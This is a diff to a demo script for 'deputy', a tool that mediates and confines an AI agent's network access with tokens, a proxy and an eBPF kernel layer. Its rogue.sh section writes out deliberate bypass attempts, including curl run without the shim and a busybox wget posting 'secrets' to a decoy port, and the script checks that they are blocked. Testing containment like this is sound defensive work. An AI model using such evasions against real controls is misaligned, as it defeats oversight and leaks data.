@@ -5,7 +5,8 @@
 # It sets up everything in a temporary directory (a test CA, an IdP key, a deputyd config,
 # a local HTTPS API), then shows: a grant issued and verified; an agent (curl, then a
 # Python script) calling the API under `deputy run` and the token the API received; refused
-# calls; `deputy logs`; bypass attempts stopped by the kernel layer; `deputy audit verify`.
+# calls; `deputy logs`; a Node agent (its own TLS) mediated by deputy's proxy; bypass attempts
+# stopped by the kernel layer; `deputy audit verify`.
 # Everything it started is stopped and removed on exit, on failure and on Ctrl-C.
 #
 # Needs root (deputyd creates cgroups and loads eBPF programs). Runs in a private mount
@@ -230,6 +231,7 @@ showsh 'deputy grant --key idp.key --jwks > idp-jwks.json'
 expect "issuer JWKS written" grep -q '"kty": "EC"' idp-jwks.json
 
 http_port=$(free_port)
+proxy_port=$(free_port)
 start_backend api_pid api --cert tls/server.pem --key tls/server.key \
 	--jwks "http://127.0.0.1:$http_port/.well-known/jwks.json" --audience https://mail.test \
 	--issuer https://deputy.demo
@@ -248,6 +250,8 @@ cat >deputy.json <<EOF
   "state_dir": "$demo/state",
   "http_listen": "127.0.0.1:$http_port",
   "cgroup": "$CG",
+  "proxy_listen": "127.0.0.1:$proxy_port",
+  "upstream_ca_file": "$demo/tls/ca.pem",
   "trusted_issuers": [
     {"issuer": "https://idp.demo", "jwks_file": "$demo/idp-jwks.json"}
   ],
@@ -417,13 +421,61 @@ ok = t["valid"] and t["claims"]["htm"] == "GET" and t["claims"]["htu"].endswith(
 sys.exit(0 if ok else 1)' "$req" "$(api_requests)" "$before"
 
 # -------------------------------------------------------------------------------------------
+heading "An agent with its own TLS stack: Node, through deputy's proxy"
+cat >agent.mjs <<EOF
+// mailbot in Node: fetch() over Node's own OpenSSL, which the shim cannot see.
+const api = "https://mail.test:$api_port";
+for (const [method, path, body] of [["GET", "/api/inbox?folder=node", undefined],
+                                    ["POST", "/api/send", '{"to": "bob@example.com"}']]) {
+  const r = await fetch(api + path, {method, body,
+                                     headers: {authorization: "Bearer sa-mailbot-static-key"}});
+  console.log(method, path, "->", r.status, (await r.text()).slice(0, 150));
+}
+EOF
+sed 's/^/  | /' agent.mjs
+say ""
+say "Node links its own OpenSSL, so the shim cannot read its requests. The kernel sends its \
+connection to mail.test to deputy's proxy instead (deputy-proxy, started by deputyd as an \
+unprivileged user without capabilities). The proxy answers TLS with a certificate from a CA \
+made for this session only, which deputy run made the agent trust (NODE_EXTRA_CA_CERTS, \
+SSL_CERT_FILE, … name a bundle of the system roots and that CA), and asks deputyd about each \
+request exactly as the shim does:"
+before=$(api_requests)
+show "${as_agent[@]}" bin/deputy run --grant grant.jwt --agent mailbot -- node agent.mjs
+session_node=$(newest_session)
+expect "the Node agent ran" test "$rc" -eq 0
+expect "the read got a 200 and the send deputy's 403" "$PYTHON" -c '
+import sys
+out = sys.argv[1]
+sys.exit(0 if "GET /api/inbox?folder=node -> 200" in out and
+         "POST /api/send -> 403 {\"error\":\"deputy_denied\"" in out else 1)' "$out"
+req=$(api_last_request)
+expect "the API received only the read, with a valid token instead of the key" \
+	"$PYTHON" -c '
+import json, sys
+r = json.loads(sys.argv[1]); t = r["token"]
+ok = t["valid"] and t["claims"]["scope"] == "email:read" and int(sys.argv[2]) == int(sys.argv[3]) + 1
+sys.exit(0 if ok else 1)' "$req" "$(api_requests)" "$before"
+say ""
+say "The session's log says who mediated the connection and each request (mediator):"
+showsh "deputy logs $session_node --json | grep -E '\"type\":\"(token|deny|response)\"|\"dport\":$api_port' | cut -c1-220"
+expect "the connection, the token and the refusal were mediated by the proxy" \
+	"$PYTHON" -c '
+import json, sys
+recs = [json.loads(l) for l in open(sys.argv[1])]
+t = [r for r in recs if r["type"] == "token" and r.get("mediator") == "proxy"]
+d = [r for r in recs if r["type"] == "deny" and r.get("mediator") == "proxy"]
+c = [r for r in recs if r["type"] == "connect" and r.get("mediator") == "proxy"]
+sys.exit(0 if len(t) == 1 and len(d) == 1 and c else 1)' "state/sessions/$session_node.jsonl"
+
+# -------------------------------------------------------------------------------------------
 heading "Going around the shim: the kernel layer"
 cat >rogue.sh <<EOF
 #!/bin/sh
 # Three ways around the shim: a child started without LD_PRELOAD, a static binary, a raw
 # socket.
 echo "> curl without LD_PRELOAD, to the API"
-env -u LD_PRELOAD curl -sS --cacert tls/ca.pem -H 'Authorization: Bearer sa-mailbot-static-key' \\
+env -u LD_PRELOAD curl -sS -H 'Authorization: Bearer sa-mailbot-static-key' \\
     https://mail.test:$api_port/api/inbox
 echo "> busybox wget (static) to 127.0.0.1:$decoy_port"
 busybox wget -q -O- --post-data 'secrets' http://127.0.0.1:$decoy_port/upload
@@ -433,28 +485,30 @@ exit 0
 EOF
 chmod 0755 rogue.sh
 say "Anything in the agent's process tree can skip the shim. The kernel layer (eBPF on the \
-session's cgroup) cannot be skipped: it allows connections only to the routes' \
-destinations (and configured CIDRs and nameservers), and logs every one. The rogue agent:"
+session's cgroup) cannot be skipped: it sends connections to a route's destination that the \
+shim does not handle to deputy's proxy, allows no other destination (but configured CIDRs \
+and nameservers), and logs every connection. The rogue agent:"
 sed 's/^/  | /' rogue.sh
 show "${as_agent[@]}" bin/deputy run --grant grant.jwt --agent mailbot -- ./rogue.sh
 session_rogue=$(newest_session)
-expect "curl without the shim reached the API (a route's destination) without a deputy token; the API refused the token" \
-	grep -q '"token":{"valid":false' <<<"$out"
+expect "curl without the shim went through deputy's proxy: the API got a valid token, not the key" \
+	grep -q '"token":{"valid":true' <<<"$out"
 expect "both connections to 127.0.0.1:$decoy_port failed with EPERM" \
 	test "$(grep -c 'Operation not permitted' <<<"$out")" -eq 2
 expect "the listener on 127.0.0.1:$decoy_port never saw a connection" \
 	test ! -s decoy.jsonl
 say ""
-say "The session's log: every connection, allowed or blocked; UNMEDIATED marks those the \
-shim did not handle:"
+say "The session's log: every connection, allowed or blocked, and who mediated it; \
+UNMEDIATED marks those nobody did:"
 showsh "deputy logs $session_rogue | grep -v ' unix '"
-expect "the log has the 2 blocked connects, and the connection to the API as unmediated" \
+expect "the log has the 2 blocked connects, and the connection to the API mediated by the proxy" \
 	"$PYTHON" -c '
 import json, sys
 recs = [json.loads(l) for l in open(sys.argv[1])]
 c = [r for r in recs if r["type"] == "connect" and r.get("family") == "inet"]
 blocked = [r for r in c if r["verdict"] == "block" and r["dport"] == int(sys.argv[2])]
-api = [r for r in c if r["verdict"] == "allow" and r["dport"] == int(sys.argv[3]) and not r["mediated"]]
+api = [r for r in c if r["verdict"] == "allow" and r["dport"] == int(sys.argv[3]) and r["mediated"]
+       and r.get("mediator") == "proxy"]
 sys.exit(0 if len(blocked) == 2 and len(api) == 1 else 1)' "state/sessions/$session_rogue.jsonl" "$decoy_port" "$api_port"
 say ""
 say "One connect record as JSON (deputy logs --json prints them all):"
